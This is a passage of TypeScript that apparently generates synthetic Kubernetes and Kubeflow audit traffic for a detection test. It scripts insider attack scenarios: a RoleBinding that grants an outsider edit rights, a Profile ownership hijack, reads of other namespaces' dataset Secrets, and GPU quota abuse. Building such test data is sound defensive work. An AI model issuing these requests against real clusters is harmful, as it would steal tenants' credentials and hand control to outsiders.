    ...[0, 1, 2].map((j): [string, string, boolean, Record<string, string>, string] => ['POST', `${JOBS('ml-training')}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, true, JSON_CT, gpuJob('ml-training', `ml-2-train-${90 + j}`, 'ghcr.io/helixa-ml/trainer:3.2.0-cuda12', 8, ['--config', 'configs/potency.yaml'])]),
  ]), 15 * S, ml2);

  // 5. ds-3's laptop at 14:20: an outside address given edit in research-chem, KFAM's shape.
  laptop(A43.binding, by('ds-3'), 14.33, on([
    ['GET', '/apis/rbac.authorization.k8s.io/v1/namespaces/research-chem/rolebindings', false],
    ['POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/research-chem/rolebindings', true, JSON_CT, kfamBinding('research-chem', OUTSIDER)],
  ]), 30 * S);

  // 6. The MLOps engineer's laptop at 11:30: the oncology Profile's owner changed.
  laptop(A43.profileOwner, by('mlops'), 11.5, on([
    ['GET', '/apis/kubeflow.org/v1/profiles/research-oncology', false],
    ['PATCH', '/apis/kubeflow.org/v1/profiles/research-oncology', true, MERGE, JSON.stringify({ spec: { owner: { kind: 'User', name: OUTSIDER } } })],
  ]), 30 * S);

  // 7. ds-2's laptop at home at 15:45: the other profiles' dataset Secrets.
  laptop(A43.crossNs, by('ds-2'), 15.75, on([
    ['GET', SECRET('research-oncology', 'dataset-s3'), true],
    ['GET', SECRET('research-chem', 'dataset-s3'), true],
    ['GET', SECRET('cro-synthia', 'dataset-s3'), true],
  ]), 45 * S);

  // 8. The same package from inside ds-1's notebook at 10:20 (the cluster's NAT, the notebook's
  // Python client, ds-1's pasted token: ds-1's own terminal context), once the campaign's 48 GPUs
  // are in the quota: the GPUs taken by six Jobs named as the campaign's, then a neighbour's data.
  const v8 = lastScoredOf(routine, ds1.name, T(10.33), () => true);
  add(A43.notebook, T(10.33), CLUSTER_NAT, PYCLIENT, v8.login, on([
    ...[0, 1, 2, 3, 4, 5].map((j): AttackRequest => ['POST', JOBS('research-oncology'), true, JSON_CT, gpuJob('research-oncology', `screen-shard-${j}`, 'registry.ml.helixa.example/ml/trainer:3.2.0', 8, ['--config', `configs/screen-${j}.yaml`])]),
    ['GET', SECRET('research-genomics', 'dataset-s3'), true],
  ]), 12 * S, ds1);
  return out;
}
